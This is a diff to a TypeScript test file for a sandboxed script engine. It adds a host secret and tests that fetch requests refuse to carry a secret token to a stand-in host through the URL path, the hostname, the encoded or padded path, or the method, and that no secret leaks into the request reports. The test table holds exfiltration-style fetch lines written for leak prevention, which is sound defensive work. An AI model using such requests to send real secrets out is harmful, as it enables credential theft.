@@ -8,7 +8,14 @@ import { engineForTests } from './support/engine.ts';
 const TOKEN = 'tok-5f9a1c+/"7e';
 const engine = engineForTests({
   values: new GivenValues({
-    secrets: { crm: { token: TOKEN, pin: '7391', key: '-----BEGIN KEY-----\nMIIEvQIBADANBg\n-----END KEY-----\n' } },
+    secrets: {
+      crm: {
+        token: TOKEN,
+        host: 'Acme-7731',
+        pin: '7391',
+        key: '-----BEGIN KEY-----\nMIIEvQIBADANBg\n-----END KEY-----\n',
+      },
+    },
     configMaps: { site: { region: 'eu-west' } },
   }),
 });
@@ -218,5 +225,26 @@ describe('a secret value that a script tells', () => {
 
   test('that is transformed in another way is told: no sandbox can know', async () => {
     expect(await engine.result('[...env.TOKEN].reverse().join("")', { env })).toBe([...TOKEN].reverse().join(''));
+  });
+});
+
+describe('what is told of a request', () => {
+  const TOLD = [
+    ['a path', '`https://a.example/hooks/${env.TOKEN}/x`'],
+    ['an encoded path', '`https://a.example/${encodeURIComponent(env.TOKEN)}`'],
+    ['a name of a host', '`https://${env.HOST}.a.example/`'],
+    ['a long path, where it is cut', '`https://a.example/${"x".repeat(2048 - 22)}${env.TOKEN}`'],
+    ['a method', '"https://a.example/", { method: env.HOST }'],
+  ] as const;
+
+  test.each(TOLD)('has no secret of %s', async (_, call) => {
+    const reports: object[] = [];
+    await engine.run(`fetch(${call}).catch((error) => error.cause.message)`, {
+      env: [...env, secret('HOST', 'host')],
+      onFetch: (report) => reports.push(report),
+    });
+    const text = JSON.stringify(reports);
+    expect(text).toMatch(/"outcome":"refused"/);
+    expect(text.toLowerCase()).not.toMatch(/tok-5f9|acme-7731/);
   });
 });
